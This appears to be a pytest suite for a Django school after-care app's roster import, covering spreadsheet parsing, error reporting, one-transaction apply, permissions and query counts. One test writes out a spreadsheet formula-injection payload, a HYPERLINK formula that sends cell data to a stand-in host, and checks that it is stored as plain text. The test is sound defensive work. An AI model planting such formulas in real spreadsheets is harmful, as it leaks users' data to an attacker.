"""Roster import: template, preview with every error, one-transaction apply, permissions, query counts."""

import io
import math
import zipfile

import pytest
from django.contrib.auth import get_user_model
from django.contrib.messages import get_messages
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from aftercare import jobs
from aftercare.models import (
    Classroom,
    Guardian,
    Job,
    JobStatus,
    RosterImport,
    RosterImportStatus,
    Staff,
    StaffRole,
    Student,
)
from aftercare.permissions import load_access
from aftercare.roles import Role
from aftercare.roster_import import (
    BATCH_SIZE,
    ROSTER_APPLY,
    normalize_phone,
    parse_roster,
    roster_import_apply,
)
from aftercare.spreadsheets import (
    FILE_TOO_LARGE_MESSAGE,
    MAX_UPLOAD_BYTES,
    NOT_XLSX_MESSAGE,
    TOO_MANY_PARTS_MESSAGE,
)
from tests.factories import make_staff

User = get_user_model()
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
STUDENT_HEADERS = [
    "年级",
    "班号",
    "学号",
    "姓名",
    "性别",
    "监护人姓名",
    "关系",
    "监护人手机",
    "监护人2姓名",
    "监护人2关系",
    "监护人2手机",
]
STAFF_HEADERS = ["用户名", "姓名", "手机", "职务", "角色", "初始密码"]
CLASS_HEADERS = ["年级", "班号", "班主任用户名"]


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


def roster_workbook(students=(), staff=(), classes=()) -> bytes:
    """Built with plain openpyxl, as Excel would: a string starting with = becomes a real formula."""
    workbook = Workbook()
    workbook.remove(workbook.active)
    for title, headers, rows in (
        ("学生", STUDENT_HEADERS, students),
        ("教职工", STAFF_HEADERS, staff),
        ("班级", CLASS_HEADERS, classes),
    ):
        worksheet = workbook.create_sheet(title)
        worksheet.append(headers)
        for row in rows:
            worksheet.append(list(row))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def error_row(error: dict) -> tuple:
    # By key: PostgreSQL's jsonb does not keep the order in which keys were written.
    return (error["sheet"], error["row"], error["column"], error["reason"])


def counts() -> dict[str, int]:
    return {
        model.__name__: model.objects.count()
        for model in (User, Staff, StaffRole, Classroom, Student, Guardian)
    }


def upload(client, content: bytes, capture, name="名单.xlsx"):
    with capture(execute=True):
        response = client.post(
            reverse("roster:import-upload"), {"file": SimpleUploadedFile(name, content, content_type=XLSX)}
        )
    assert response.status_code == 302, response.content.decode()[:500]
    job = Job.objects.get(pk=response["Location"].rstrip("/").split("/")[-1])
    assert job.status == JobStatus.SUCCEEDED, job.error
    return RosterImport.objects.get(job=job), job


def confirm(client, roster_import, capture):
    with capture(execute=True):
        return client.post(reverse("roster:import-confirm", args=[roster_import.pk]))


def detail_page(client, roster_import) -> str:
    response = client.get(reverse("roster:import-detail", args=[roster_import.pk]))
    assert response.status_code == 200
    return response.content.decode()


# Template


def test_template_downloads_with_three_sheets_headers_and_an_example_row(world, as_user):
    response = as_user("admin").get(reverse("roster:import-template"))

    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    assert "attachment" in response["Content-Disposition"]
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["学生", "教职工", "班级", "填写说明"]
    rows = {name: list(workbook[name].iter_rows(values_only=True)) for name in ("学生", "教职工", "班级")}
    assert rows["学生"] == [
        tuple(STUDENT_HEADERS),
        (3, 1, "2026030101", "王小明", "男", "王建国", "父亲", "13800000000", "李芳", "母亲", "13900000000"),
    ]
    assert rows["教职工"] == [
        tuple(STAFF_HEADERS),
        ("zhanglaoshi", "张老师", "13700000000", "语文教师", "课后服务教师、考勤检查员", None),
    ]
    assert rows["班级"] == [tuple(CLASS_HEADERS), (3, 1, "zhanglaoshi")]
    for name in ("学生", "教职工", "班级"):
        assert {cell.data_type for cell in workbook[name][1]} == {"s"}
    notes = [row[0] for row in workbook["填写说明"].iter_rows(values_only=True)]
    assert (
        "“教职工”表：用户名为3到30位字母、数字、下划线、点或连字符。角色可填多个，用顿号或逗号分隔：课后服务教师、机构人员、考勤检查员、校长、管理员、财务。"
        in notes
    )


def test_the_template_uploaded_unchanged_imports_nothing(world, as_user, django_capture_on_commit_callbacks):
    client = as_user("admin")
    template = client.get(reverse("roster:import-template")).content
    before = counts()

    roster_import, _ = upload(client, template, django_capture_on_commit_callbacks)

    assert roster_import.status == RosterImportStatus.INVALID
    assert roster_import.errors == [
        {"sheet": "", "row": None, "column": "", "reason": "工作簿中没有可导入的数据行"}
    ]
    assert counts() == before


# A valid workbook


def valid_workbook(world) -> bytes:
    return roster_workbook(
        students=[
            [3, 1, "S001", "王小明", "男", "王建国", "父亲", "13600000001"],
            [4, 2, "S002", "李小花", "女", "李强", "父亲", "136 0000 0002", "刘梅", "母亲", "+8613600000003"],
            # Existing child: renamed, moved to 3-2; guardian 13812341234 matched by phone, one added.
            [
                3,
                2,
                world.child.student_number,
                "张小明明",
                "男",
                "张大爸",
                "父亲",
                "13812341234",
                "张奶奶",
                "祖父母",
                "13600000004",
            ],
            # A child who had left comes back; the guardian on record is matched and unchanged.
            [3, 2, world.other_child.student_number, "李小红", "女", "李妈妈", "母亲", "13900001111"],
        ],
        staff=[
            [
                "wanglaoshi",
                "王老师",
                "13600000009",
                "数学教师",
                "课后服务教师、考勤检查员",
                "Maths-Teacher-2026",
            ],
            ["Inspector", "孙检查", None, "年级组长", "财务", None],
        ],
        classes=[[4, 2, "wanglaoshi"], [3, 1, "principal"]],
    )


def test_a_valid_workbook_previews_the_counts_and_then_imports_exactly(
    world, as_user, django_capture_on_commit_callbacks
):
    Student.objects.filter(pk=world.other_child.pk).update(is_active=False)
    parent_guardian = Guardian.objects.get(student=world.child, user=world.users["parent"])
    father = Guardian.objects.get(student=world.child, phone="13812341234")
    client = as_user("admin")
    before = counts()

    roster_import, job = upload(client, valid_workbook(world), django_capture_on_commit_callbacks)

    assert job.result_url == reverse("roster:import-detail", args=[roster_import.pk])
    assert job.message == "检查通过，请核对后确认导入。"
    assert roster_import.status == RosterImportStatus.VALID
    assert roster_import.summary == {
        "classrooms_new": 1,
        "classrooms_updated": 1,
        "students_new": 2,
        "students_updated": 2,
        "guardians_new": 4,
        "guardians_updated": 1,
        "staff_new": 1,
        "staff_updated": 1,
    }
    assert counts() == before  # a preview writes nothing
    page = detail_page(client, roster_import)
    assert "确认导入" in page
    assert '<tr><th scope="row">学生</th><td>2</td><td>2</td></tr>' in page

    response = confirm(client, roster_import, django_capture_on_commit_callbacks)

    apply_job = Job.objects.get(kind=ROSTER_APPLY)
    assert response["Location"] == reverse("core:job-detail", args=[apply_job.pk])
    assert (apply_job.status, apply_job.message) == (JobStatus.SUCCEEDED, "导入完成。")
    roster_import.refresh_from_db()
    assert roster_import.status == RosterImportStatus.IMPORTED
    assert roster_import.imported_by == world.users["admin"]
    assert not roster_import.file  # the upload, with its passwords, is gone
    school = world.school

    new_class = Classroom.objects.get(school=school, grade=4, number=2)
    teacher = User.objects.get(username="wanglaoshi")
    assert new_class.homeroom_teacher == teacher
    assert Classroom.objects.get(pk=world.classroom.pk).homeroom_teacher == world.users["principal"]

    def guardians_of(student):
        return list(
            student.guardians.order_by("pk").values_list("name", "relation", "phone", "user__username")
        )

    first = Student.objects.get(school=school, student_number="S001")
    assert (first.name, first.classroom_id, first.gender, first.is_active) == (
        "王小明",
        world.classroom.pk,
        "M",
        True,
    )
    assert guardians_of(first) == [("王建国", "father", "13600000001", None)]
    second = Student.objects.get(school=school, student_number="S002")
    assert (second.name, second.classroom_id, second.gender) == ("李小花", new_class.pk, "F")
    assert guardians_of(second) == [
        ("李强", "father", "13600000002", None),
        ("刘梅", "mother", "13600000003", None),
    ]
    child = Student.objects.get(pk=world.child.pk)
    assert (child.name, child.classroom_id, child.gender) == ("张小明明", world.other_classroom.pk, "M")
    assert guardians_of(child) == [
        ("张大爸", "father", "13812341234", None),
        (parent_guardian.name, parent_guardian.relation, parent_guardian.phone, "parent"),
        ("张奶奶", "grandparent", "13600000004", None),
    ]
    assert child.guardians.get(phone="13812341234").pk == father.pk
    other_child = Student.objects.get(pk=world.other_child.pk)
    assert other_child.is_active is True
    assert guardians_of(other_child) == [
        ("李妈妈", "mother", "13900001111", None),
        (world.users["other_parent"].full_name, "mother", world.users["other_parent"].phone, "other_parent"),
    ]

    assert load_access(teacher).roles_at(school.pk) == {
        Role.SERVICE_TEACHER,
        Role.INSPECTOR,
        Role.HOMEROOM_TEACHER,
    }
    assert (teacher.full_name, teacher.phone) == ("王老师", "13600000009")
    assert teacher.check_password("Maths-Teacher-2026")
    assert Staff.objects.get(user=teacher).title == "数学教师"
    inspector = User.objects.get(pk=world.users["inspector"].pk)
    assert inspector.full_name == "孙检查"
    assert inspector.phone == world.users["inspector"].phone  # a blank cell changes nothing
    assert load_access(inspector).roles_at(school.pk) == {Role.INSPECTOR, Role.FINANCE}
    assert Staff.objects.get(user=inspector, school=school).title == "年级组长"

    assert counts() == {
        **before,
        "User": before["User"] + 1,
        "Staff": before["Staff"] + 1,
        "StaffRole": before["StaffRole"] + 3,
        "Classroom": before["Classroom"] + 1,
        "Student": before["Student"] + 2,
        "Guardian": before["Guardian"] + 4,
    }
    reason = f"roster import #{roster_import.pk}"
    created = Student.history.get(student_number="S001")
    assert (created.history_type, created.history_user, created.history_change_reason) == (
        "+",
        world.users["admin"],
        reason,
    )
    moved = Student.history.filter(id=child.pk).latest("history_date")
    assert (moved.history_type, moved.name, moved.history_user) == ("~", "张小明明", world.users["admin"])
    assert set(
        StaffRole.history.filter(staff__user=teacher).values_list("history_change_reason", flat=True)
    ) == {reason}
    assert "已于" in detail_page(client, roster_import)


def test_importing_the_same_workbook_again_adds_nothing(world, as_user, django_capture_on_commit_callbacks):
    client = as_user("admin")
    content = valid_workbook(world)
    first, _ = upload(client, content, django_capture_on_commit_callbacks)
    confirm(client, first, django_capture_on_commit_callbacks)
    after_first = counts()

    again, _ = upload(client, content, django_capture_on_commit_callbacks)
    confirm(client, again, django_capture_on_commit_callbacks)

    again.refresh_from_db()
    assert again.status == RosterImportStatus.IMPORTED
    assert again.summary == {key: 0 for key in again.summary}
    assert counts() == after_first


def test_formula_text_is_kept_as_literal_text_and_never_evaluated(
    world, as_user, django_capture_on_commit_callbacks
):
    hyperlink = '=HYPERLINK("http://198.51.100.7/?leak="&A1,"点击查看")'
    content = roster_workbook(
        students=[
            [3, 1, "F001", "=1+1", "男", "@SUM(A1:A2)", "母亲", "13600000011"],
            [3, 1, "F002", hyperlink, "女", "-2+3", "父亲", "13600000012"],
        ]
    )
    cells = load_workbook(io.BytesIO(content))["学生"]
    assert (cells["D2"].data_type, cells["D3"].data_type) == ("f", "f")  # real formulas in the upload
    client = as_user("admin")

    roster_import, _ = upload(client, content, django_capture_on_commit_callbacks)
    confirm(client, roster_import, django_capture_on_commit_callbacks)

    assert Student.objects.get(student_number="F001").name == "=1+1"
    assert Student.objects.get(student_number="F002").name == hyperlink
    assert list(
        Guardian.objects.filter(student__student_number__in=["F001", "F002"])
        .order_by("student__student_number")
        .values_list("name", flat=True)
    ) == ["@SUM(A1:A2)", "-2+3"]


# A workbook with bad rows


def test_a_workbook_with_bad_rows_lists_every_error_and_imports_nothing(
    world, as_user, django_capture_on_commit_callbacks
):
    content = roster_workbook(
        students=[
            [7, 1, "B001", "甲", "男", "家长", "父亲", "13600000001"],
            [3, 1, "B002", None, "女", "家长", "母亲", "1360000"],
            [3, 1, "B002", "乙", "男", "家长", "叔叔", "13600000002"],
            [3, 0, "B003", "丙", "未知", "家长", "父亲", "13600000003", "外婆"],
            [3, 1, "B004", "丁", "女", "家长", "母亲", "13600000004"],
        ],
        staff=[
            ["far_principal", "冒名", None, None, "课后服务教师", None],
            ["x", "某", None, None, "班主任、校工", None],
            ["newbie", "新人", "13812341234x", None, None, None],
            ["newbie2", "新人二", None, None, None, "12345678"],
            ["NEWBIE", "新人三", None, None, None, None],
        ],
        classes=[[3, 1, "ghost"], [3, 1, None], [5, 1, "parent"]],
    )
    client = as_user("admin")
    before = counts()

    roster_import, job = upload(client, content, django_capture_on_commit_callbacks)

    assert roster_import.status == RosterImportStatus.INVALID
    assert job.message == "发现 19 处错误，没有导入任何数据。"
    assert [error_row(error) for error in roster_import.errors] == [
        ("学生", 2, "年级", "年级应为1到6（可写“3”或“三年级”）"),
        ("学生", 3, "姓名", "必填，不能为空"),
        ("学生", 3, "监护人手机", "手机号码应为11位数字"),
        ("学生", 4, "学号", "学号与第3行重复"),
        ("学生", 4, "关系", "关系应为父亲、母亲、祖父母、外祖父母或其他"),
        ("学生", 5, "班号", "班号应为1到99的整数"),
        ("学生", 5, "性别", "性别应为“男”或“女”"),
        ("学生", 5, "监护人2关系", "填写第二位监护人时必填"),
        ("学生", 5, "监护人2手机", "填写第二位监护人时必填"),
        ("教职工", 2, "用户名", "该用户名已被其他账户使用，请换一个"),
        ("教职工", 3, "用户名", "用户名只能包含字母、数字、下划线、点和连字符，3到30个字符"),
        ("教职工", 3, "角色", "班主任不在角色中填写，请在“班级”表的班主任用户名中指定"),
        (
            "教职工",
            3,
            "角色",
            "未知的角色“校工”（可填：课后服务教师、机构人员、考勤检查员、校长、管理员、财务）",
        ),
        ("教职工", 4, "手机", "手机号码应为11位数字"),
        ("教职工", 5, "初始密码", "这个密码太常见了。密码只包含数字。"),
        ("教职工", 6, "用户名", "用户名与第4行重复"),
        ("班级", 2, "班主任用户名", "“ghost”不是本校在职教职工，也不在“教职工”表中"),
        ("班级", 3, "班号", "班级与第2行重复"),
        ("班级", 4, "班主任用户名", "“parent”不是本校在职教职工，也不在“教职工”表中"),
    ]
    assert counts() == before
    assert not roster_import.file  # nothing left to import: the upload is deleted
    page = detail_page(client, roster_import)
    assert "<tr><td>学生</td><td>4</td><td>学号</td><td>学号与第3行重复</td></tr>" in page
    assert "发现 19 处错误，没有导入任何数据。" in page
    assert "确认导入" not in page
    response = confirm(client, roster_import, django_capture_on_commit_callbacks)
    assert response["Location"] == reverse("roster:import-detail", args=[roster_import.pk])
    assert counts() == before
    assert not Job.objects.filter(kind=ROSTER_APPLY).exists()


def test_a_workbook_without_a_roster_sheet_or_with_missing_columns_is_named(
    world, as_user, django_capture_on_commit_callbacks
):
    workbook = Workbook()
    workbook.active.title = "名单"
    workbook.active.append(["姓名"])
    workbook.active.append(["王小明"])
    no_sheet = io.BytesIO()
    workbook.save(no_sheet)
    workbook = Workbook()
    workbook.active.title = "学生"
    workbook.active.append(["年级", "班号", "学号", "姓名", "性别", "监护人姓名"])
    workbook.active.append([3, 1, "M001", "王小明", "男", "王建国"])
    missing_columns = io.BytesIO()
    workbook.save(missing_columns)
    client = as_user("admin")

    first, _ = upload(client, no_sheet.getvalue(), django_capture_on_commit_callbacks)
    second, _ = upload(client, missing_columns.getvalue(), django_capture_on_commit_callbacks)

    assert [error_row(error) for error in first.errors] == [
        ("", None, "", "工作簿中没有“学生”“教职工”或“班级”工作表，请使用导入模板")
    ]
    assert [error_row(error) for error in second.errors] == [
        ("学生", 1, "关系", "缺少这一列"),
        ("学生", 1, "监护人手机", "缺少这一列"),
    ]


# Uploads refused before anything is stored


def zip_with_too_many_parts() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("xl/workbook.xml", b"<workbook/>")
        for number in range(1000):
            archive.writestr(f"xl/media/image{number}.png", b"")
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"name,class\nWang,3-1\n", NOT_XLSX_MESSAGE),
        (b"\0" * (MAX_UPLOAD_BYTES + 1), FILE_TOO_LARGE_MESSAGE),
        (zip_with_too_many_parts(), TOO_MANY_PARTS_MESSAGE),
    ],
    ids=["not-xlsx", "over-10-mb", "too-many-parts"],
)
def test_a_refused_upload_re_renders_the_form_with_the_message_and_stores_nothing(
    world, as_user, content, message, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        response = as_user("admin").post(
            reverse("roster:import-upload"), {"file": SimpleUploadedFile("名单.xlsx", content)}
        )

    assert response.status_code == 200
    page = response.content.decode()
    assert f'<ul class="errorlist" id="id_file_error"><li>{message}</li></ul>' in page
    assert not RosterImport.objects.exists()
    assert not Job.objects.exists()


# Permissions


@pytest.fixture
def checked_import(world, as_user, django_capture_on_commit_callbacks):
    roster_import, _ = upload(as_user("admin"), valid_workbook(world), django_capture_on_commit_callbacks)
    assert roster_import.status == RosterImportStatus.VALID
    return roster_import


@pytest.mark.parametrize("persona", ["principal", "homeroom"])
def test_school_staff_who_are_not_administrators_get_403_and_nothing_changes(
    world, as_user, persona, checked_import, django_capture_on_commit_callbacks
):
    client = as_user(persona)
    before = counts()

    assert client.get(reverse("roster:import-upload")).status_code == 403
    assert client.get(reverse("roster:import-template")).status_code == 403
    uploaded = client.post(
        reverse("roster:import-upload"),
        {"file": SimpleUploadedFile("名单.xlsx", valid_workbook(world), content_type=XLSX)},
    )
    assert uploaded.status_code == 403
    assert client.get(reverse("roster:import-detail", args=[checked_import.pk])).status_code == 403
    assert confirm(client, checked_import, django_capture_on_commit_callbacks).status_code == 403

    assert RosterImport.objects.get().status == RosterImportStatus.VALID
    assert Job.objects.count() == 1  # the administrator's check only
    assert counts() == before


@pytest.mark.parametrize("persona", ["far_admin", "parent", "district"])
def test_outsiders_get_404_for_an_import_and_nothing_changes(
    world, persona, checked_import, django_capture_on_commit_callbacks
):
    from tests.conftest import client_for

    world.users["far_admin"] = make_staff(world.other_school, Role.ADMINISTRATOR, username="far_admin")
    client = client_for(world.users[persona])
    before = counts()

    assert client.get(reverse("roster:import-detail", args=[checked_import.pk])).status_code == 404
    assert confirm(client, checked_import, django_capture_on_commit_callbacks).status_code == 404

    assert RosterImport.objects.get().status == RosterImportStatus.VALID
    assert not Job.objects.filter(kind=ROSTER_APPLY).exists()
    assert counts() == before


def test_another_schools_administrator_uploads_to_their_own_school(world, django_capture_on_commit_callbacks):
    from tests.conftest import client_for

    client = client_for(make_staff(world.other_school, Role.ADMINISTRATOR, username="far_admin"))
    content = roster_workbook(students=[[1, 1, "Z001", "赵小丽", "女", "赵爸爸", "父亲", "13600000021"]])

    roster_import, _ = upload(client, content, django_capture_on_commit_callbacks)
    confirm(client, roster_import, django_capture_on_commit_callbacks)

    assert roster_import.school == world.other_school
    assert Student.objects.get(student_number="Z001").classroom == world.far_classroom
    assert client.get(reverse("roster:import-detail", args=[roster_import.pk])).status_code == 200


def test_the_apply_job_asks_the_policy_again_for_who_confirmed(
    world, as_user, checked_import, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks() as callbacks:
        as_user("admin").post(reverse("roster:import-confirm", args=[checked_import.pk]))
    # Before the job starts, the administrator is relieved of the role.
    StaffRole.objects.filter(staff__user=world.users["admin"], role=Role.ADMINISTRATOR).delete()
    before = counts()

    for callback in callbacks:
        callback()

    job = Job.objects.get(kind=ROSTER_APPLY)
    assert (job.status, job.error) == (JobStatus.FAILED, "您没有导入本校名单的权限。")
    checked_import.refresh_from_db()
    assert checked_import.status == RosterImportStatus.VALID  # another administrator may confirm
    assert counts() == before


# Applying once, all or nothing


def test_confirming_again_does_nothing(world, as_user, checked_import, django_capture_on_commit_callbacks):
    client = as_user("admin")
    confirm(client, checked_import, django_capture_on_commit_callbacks)
    after_first = counts()
    checked_import.refresh_from_db()
    imported_at = checked_import.imported_at

    response = confirm(client, checked_import, django_capture_on_commit_callbacks)
    jobs.job_run(Job.objects.get(kind=ROSTER_APPLY).pk)

    assert response["Location"] == reverse("roster:import-detail", args=[checked_import.pk])
    assert Job.objects.filter(kind=ROSTER_APPLY).count() == 1
    assert counts() == after_first
    checked_import.refresh_from_db()
    assert (checked_import.status, checked_import.imported_at) == (RosterImportStatus.IMPORTED, imported_at)
    page = client.get(response["Location"]).content.decode()
    assert "这份名单当前不能确认导入，可能已经导入过。" in page


def test_two_apply_runs_import_once(world, checked_import):
    RosterImport.objects.filter(pk=checked_import.pk).update(status=RosterImportStatus.IMPORTING)
    first, second = (RosterImport.objects.select_related("school").get(pk=checked_import.pk) for _ in "12")
    before = counts()
    roster_import_apply(actor=world.users["admin"], roster_import=first)
    after_first = counts()
    assert after_first != before

    # The second run loaded the row before the first finished: under the lock it finds it imported.
    roster_import_apply(actor=world.users["admin"], roster_import=second)

    assert counts() == after_first
    assert Student.history.filter(student_number="S001").count() == 1


def test_a_failed_apply_leaves_everything_as_it_was(
    world, as_user, checked_import, django_capture_on_commit_callbacks, monkeypatch
):
    import aftercare.roster_import as roster_module

    real_bulk_create = roster_module.bulk_create_with_history

    def failing(rows, model, **kwargs):
        if model is Guardian:  # students, staff and classes are written by then
            raise RuntimeError("disk full")
        return real_bulk_create(rows, model, **kwargs)

    monkeypatch.setattr(roster_module, "bulk_create_with_history", failing)
    before = counts()
    histories = Student.history.count()

    confirm(as_user("admin"), checked_import, django_capture_on_commit_callbacks)

    job = Job.objects.get(kind=ROSTER_APPLY)
    assert (job.status, job.error) == (JobStatus.FAILED, "任务失败，请稍后重试；如果一再失败，请联系管理员。")
    assert counts() == before
    assert Student.history.count() == histories
    checked_import.refresh_from_db()
    assert checked_import.status == RosterImportStatus.VALID  # may be confirmed again
    assert checked_import.file


def test_a_clash_with_a_concurrent_write_is_explained_and_changes_nothing(
    world, as_user, checked_import, django_capture_on_commit_callbacks, monkeypatch
):
    import aftercare.roster_import as roster_module

    real_write = roster_module._write

    def clashing_write(plan, **kwargs):
        # Another school creates the same username between this import's check and its INSERT.
        make_staff(world.other_school, username="wanglaoshi")
        real_write(plan, **kwargs)

    monkeypatch.setattr(roster_module, "_write", clashing_write)
    before = counts()

    confirm(as_user("admin"), checked_import, django_capture_on_commit_callbacks)

    job = Job.objects.get(kind=ROSTER_APPLY)
    assert (job.status, job.error) == (
        JobStatus.FAILED,
        "导入时有人同时修改了相关数据，没有导入任何数据。请再次确认导入。",
    )
    assert counts() == before
    checked_import.refresh_from_db()
    assert checked_import.status == RosterImportStatus.VALID


def test_the_apply_checks_again_against_records_changed_since_the_preview(
    world, as_user, checked_import, django_capture_on_commit_callbacks
):
    make_staff(world.other_school, Role.SERVICE_TEACHER, username="WangLaoshi")
    before = counts()

    confirm(as_user("admin"), checked_import, django_capture_on_commit_callbacks)

    job = Job.objects.get(kind=ROSTER_APPLY)
    assert job.message == "导入前复查发现 1 处错误，没有导入任何数据。"
    checked_import.refresh_from_db()
    assert checked_import.status == RosterImportStatus.INVALID
    assert checked_import.errors == [
        {"sheet": "教职工", "row": 2, "column": "用户名", "reason": "该用户名已被其他账户使用，请换一个"}
    ]
    assert counts() == before


# Queries


def import_of(world, students: int) -> RosterImport:
    rows = [
        [1 + n % 5, 9, f"Q{n:05d}", f"学生{n}", "男", f"家长{n}", "母亲", f"135{n:08d}"]
        for n in range(students)
    ]
    roster_import = RosterImport(
        school=world.school,
        uploaded_by=world.users["admin"],
        original_name="q.xlsx",
        status=RosterImportStatus.IMPORTING,
    )
    roster_import.file.save("q.xlsx", ContentFile(roster_workbook(students=rows)))
    return roster_import


@pytest.mark.parametrize(("students", "queries"), [(50, 16), (500, 52)])
def test_apply_queries_grow_only_per_batch(world, django_assert_num_queries, students, queries):
    roster_import = import_of(world, students)
    batches = math.ceil(students / BATCH_SIZE)
    # Fixed: savepoint, school and import locked, classes, students, guardians, status, release, reload,
    # file cleared, and the 5 new classes with their history. Per batch: students and guardians, each
    # with its history.
    assert queries == 12 + 4 * batches

    with django_assert_num_queries(queries):
        roster_import_apply(actor=world.users["admin"], roster_import=roster_import)

    assert Student.objects.filter(student_number__startswith="Q").count() == students
    assert Guardian.objects.filter(student__student_number__startswith="Q").count() == students


# Reading (no database)


def test_grades_class_numbers_and_phones_are_read_in_the_forms_people_type():
    content = roster_workbook(
        students=[
            ["三年级", "2班", "R001", "王小明", "男", "王建国", "外祖父母", "138-0013-8000"],
            ["6", 12, "R002", "李小红", "女", "李芳", "其他", "+86 139 0013 9000"],
        ]
    )

    parsed = parse_roster(io.BytesIO(content))

    assert parsed.errors == []
    assert [
        (s.grade, s.class_number, s.guardians[0].relation, s.guardians[0].phone) for s in parsed.students
    ] == [
        (3, 2, "grandparent", "13800138000"),
        (6, 12, "other", "13900139000"),
    ]


@pytest.mark.parametrize(
    "text", ["1380013800", "138001380000", "23800138000", "=13800138000", "１３８００１３８０００"]
)
def test_a_phone_that_is_not_eleven_digits_is_refused(text):
    assert normalize_phone(text) is None


def test_an_upload_nobody_confirms_expires_after_a_week_and_loses_its_file(
    world, as_user, django_capture_on_commit_callbacks, settings, tmp_path
):
    from datetime import timedelta

    from django.utils import timezone

    from aftercare.roster_import import roster_uploads_sweep

    settings.MEDIA_ROOT = tmp_path
    client = as_user("admin")
    roster_import, _job = upload(client, valid_workbook(world), django_capture_on_commit_callbacks)
    stored = tmp_path / roster_import.file.name
    assert stored.exists()

    assert roster_uploads_sweep(now=timezone.now() + timedelta(days=6)) == 0
    assert roster_uploads_sweep(now=timezone.now() + timedelta(days=8)) == 1

    roster_import.refresh_from_db()
    assert (roster_import.status, roster_import.file.name) == (RosterImportStatus.EXPIRED, "")
    assert not stored.exists()
    before = counts()
    response = confirm(client, roster_import, django_capture_on_commit_callbacks)
    assert response["Location"] == reverse("roster:import-detail", args=[roster_import.pk])
    assert [str(m) for m in get_messages(response.wsgi_request)] == [
        "这份名单超过 7 天没有确认，文件已删除；请重新上传。"
    ]
    assert counts() == before  # an expired upload imports nothing
